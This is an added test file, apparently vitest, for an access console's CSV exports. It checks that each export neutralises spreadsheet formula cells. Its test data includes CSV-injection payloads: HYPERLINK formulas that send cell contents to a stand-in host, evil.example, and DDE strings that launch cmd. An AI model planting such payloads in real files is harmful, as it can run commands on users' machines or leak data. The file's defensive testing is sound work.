@@ -1,0 +1,157 @@
+import { createHash } from "node:crypto";
+import { parse } from "csv-parse/sync";
+import { sql } from "drizzle-orm";
+import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { getDb } from "@/db/client";
+import type { Environment } from "@/db/schema";
+import { cookieJar, signInAs } from "@/test-support/console-session";
+import { createEnvironments, realMemberCtx, systemCtx } from "@/test-support/fixtures";
+import { addGrants } from "@/lib/access/grants";
+import { createResource } from "@/lib/access/resources";
+import { signInConsoleMember } from "@/lib/auth/console-sign-in";
+import { recordAudit } from "@/lib/audit/record";
+import { addMembers, createGroup } from "@/lib/groups";
+import { enqueueJob, saveItems } from "@/lib/jobs";
+import { closeAccessReview, createAccessReview, decideReviewItems, getAccessReview } from "@/lib/reviews";
+import { handleAcs } from "@/lib/sso/flow";
+import { createUser } from "@/lib/users";
+import { GET as whoCanUseRoute } from "@/app/console/[env]/access/[resourceId]/who/route";
+import { GET as auditRoute } from "@/app/console/[env]/audit/export/route";
+import { GET as historyRoute } from "@/app/console/[env]/history/export/route";
+import { GET as jobReportRoute } from "@/app/console/[env]/jobs/[jobId]/report/route";
+import { GET as membershipsRoute } from "@/app/console/[env]/memberships/export/route";
+import { GET as reviewReportRoute } from "@/app/console/[env]/reviews/[reviewId]/report/route";
+import { GET as usersRoute } from "@/app/console/[env]/users/export/route";
+
+// CSV injection, export by export: text that begins with = + - @ (or a tab or carriage return)
+// reaches every CSV the console writes, and a spreadsheet would run it. Each export must hand it
+// over neutralised: prefixed with ' and quoted (lib/domain/csv.ts), while ordinary text stays as it was.
+
+vi.mock("next/headers", () => import("@/test-support/console-session").then((m) => m.nextHeadersMock));
+
+const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const NORMAL = "Ann Lee";
+
+/** For each value: the cell it became, and whether it was quoted with the ' in front. */
+function cellsFor(csv: string, values: string[]) {
+  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
+  return values.map((value) => ({
+    value,
+    cell: cells.find((c) => c === value || c === `'${value}`) ?? "(missing)",
+    quoted: csv.includes(`"'${value.replaceAll('"', '""')}"`),
+  }));
+}
+const neutralised = (values: string[]) => values.map((value) => ({ value, cell: `'${value}`, quoted: true }));
+
+async function csvOf(response: Response): Promise<string> {
+  expect([response.status, response.headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8"]);
+  return response.text();
+}
+
+let env: { dev: Environment; test: Environment; prod: Environment };
+let group: { id: string };
+let people: { id: string; email: string }[];
+let normal: { id: string; email: string };
+
+/** The exact text, whatever the domain trims on the way in (a leading tab or CR arrives through older rows or a direct write). */
+async function forceName(table: "users" | "groups", id: string, name: string) {
+  await getDb().execute(sql`update ${sql.identifier(table)} set name = ${name} where id = ${id}`);
+}
+
+beforeAll(async () => {
+  env = await createEnvironments();
+  people = [];
+  for (const [i, name] of DANGEROUS.entries()) {
+    const user = await createUser(systemCtx, { name, email: `formula${i}@example.com`, environmentIds: [env.dev.id] });
+    await forceName("users", user.id, name);
+    people.push(user);
+  }
+  normal = await createUser(systemCtx, { name: NORMAL, email: "ann.lee@example.com", environmentIds: [env.dev.id] });
+  // One group per dangerous name; the first holds everyone.
+  const groups = [];
+  for (const name of DANGEROUS) {
+    const g = await createGroup(systemCtx, { environmentId: env.dev.id, name: name.trim() || "placeholder" });
+    await forceName("groups", g.id, name);
+    groups.push(g);
+  }
+  group = groups[0]!;
+  for (const g of groups) await addMembers(systemCtx, { groupId: g.id, userIds: [...people.map((p) => p.id), normal.id] });
+});
+beforeEach(async () => {
+  cookieJar.clear();
+  await signInAs("owner");
+});
+
+describe("every CSV export neutralises formula cells", () => {
+  it("users", async () => {
+    const csv = await csvOf(await usersRoute(new Request("http://localhost/console/dev/users/export"), { params: Promise.resolve({ env: "dev" }) }));
+    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
+    // Ordinary text is untouched: not prefixed, not quoted.
+    expect(csv).toContain(`,${NORMAL},`);
+    expect(csv).toContain(",ann.lee@example.com,");
+  });
+
+  it("memberships", async () => {
+    const csv = await csvOf(await membershipsRoute(new Request("http://localhost/console/dev/memberships/export"), { params: Promise.resolve({ env: "dev" }) }));
+    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
+    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
+  });
+
+  it("memberships as of a date (history)", async () => {
+    const url = `http://localhost/console/dev/history/export?subject=group&group=${group.id}&at=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`;
+    const csv = await csvOf(await historyRoute(new Request(url), { params: Promise.resolve({ env: "dev" }) }));
+    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
+    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
+  });
+
+  it("who can use a resource", async () => {
+    const genie = await createResource(systemCtx, { environmentId: env.dev.id, feature: "agent_studio", name: "Ledger genie" });
+    await addGrants(systemCtx, { environmentId: env.dev.id, feature: "agent_studio", resourceId: genie.id, groupIds: [group.id] });
+    const csv = await csvOf(await whoCanUseRoute(new Request(`http://localhost/console/dev/access/${genie.id}/who`), { params: Promise.resolve({ env: "dev", resourceId: genie.id }) }));
+    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
+    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
+  });
+
+  it("audit trail, with what unauthenticated requests put there (a sign-in email, an unknown SAML issuer)", async () => {
+    // Anyone can type these into the sign-in form; the failed attempt is audited with what they typed.
+    const typed = ['=HYPERLINK("http://evil.example","Details")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0"];
+    for (const email of typed) expect(await signInConsoleMember({ email, password: "whatever" })).toEqual({ ok: false, reason: "invalid" });
+    // Anyone can post a SAML response naming any issuer; the refusal is audited under that name.
+    const issuer = "=HYPERLINK(\"http://evil.example\",\"IdP\")";
+    const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r1" Version="2.0" IssueInstant="${new Date().toISOString()}"><saml:Issuer>${issuer.replaceAll('"', "&quot;")}</saml:Issuer></samlp:Response>`;
+    expect(await handleAcs({ SAMLResponse: Buffer.from(xml).toString("base64"), RelayState: "" })).toMatchObject({ ok: false, check: "issuer" });
+    // Labels that begin with a tab or CR (no form keeps them, an audit row written by any door could).
+    for (const label of DANGEROUS) await recordAudit(getDb(), { actor: { type: "system", id: null, label }, requestId: "test" }, { action: "test.label", targetType: "test", targetLabel: NORMAL });
+    const csv = await csvOf(await auditRoute(new Request("http://localhost/console/dev/audit/export"), { params: Promise.resolve({ env: "dev" }) }));
+    expect(cellsFor(csv, [...typed, issuer, ...DANGEROUS])).toEqual(neutralised([...typed, issuer, ...DANGEROUS]));
+    expect(csv).toContain(`,${NORMAL},`);
+  });
+
+  it("job reports", async () => {
+    const job = await enqueueJob(getDb(), systemCtx, { kind: "import_apply", environmentId: env.dev.id, params: {} });
+    // An import echoes each row's email cell back in its report, with why it was refused.
+    await saveItems(getDb(), job.id, [
+      ...DANGEROUS.map((key, i) => ({ seq: i + 1, key, outcome: "error", detail: DANGEROUS[(i + 1) % DANGEROUS.length]! })),
+      { seq: DANGEROUS.length + 1, key: "ann.lee@example.com", outcome: "created", detail: NORMAL },
+    ]);
+    const csv = await csvOf(await jobReportRoute(new Request(`http://localhost/console/dev/jobs/${job.id}/report`), { params: Promise.resolve({ env: "dev", jobId: job.id }) }));
+    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
+    // Numbers stay numbers (the row number), ordinary text stays as it was.
+    expect(csv).toContain(`\n${DANGEROUS.length + 1},ann.lee@example.com,created,${NORMAL}\n`);
+  });
+
+  it("access review reports (the signed-off CSV, as hashed at closing)", async () => {
+    const owner = await realMemberCtx("owner");
+    const reviewer = await realMemberCtx("reviewer");
+    const review = await createAccessReview(owner, { environmentId: env.dev.id, name: "Formula review", scope: "groups", scopeIds: [group.id], reviewerIds: [reviewer.actor.id], dueAt: new Date(Date.now() + 86_400_000).toISOString() });
+    const items = (await getAccessReview(env.dev.id, review.id))!.items;
+    await decideReviewItems(reviewer, { reviewId: review.id, itemIds: items.map((i) => i.id), decision: "keep", comment: "=1+2" });
+    await closeAccessReview(owner, review.id);
+    const response = await reviewReportRoute(new Request(`http://localhost/console/dev/reviews/${review.id}/report`), { params: Promise.resolve({ env: "dev", reviewId: review.id }) });
+    const sha256 = response.headers.get("x-content-sha256");
+    const csv = await csvOf(response);
+    expect(cellsFor(csv, [...DANGEROUS, "=1+2"])).toEqual(neutralised([...DANGEROUS, "=1+2"]));
+    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
+    expect(createHash("sha256").update(csv).digest("hex")).toBe(sha256);
+  });
+});
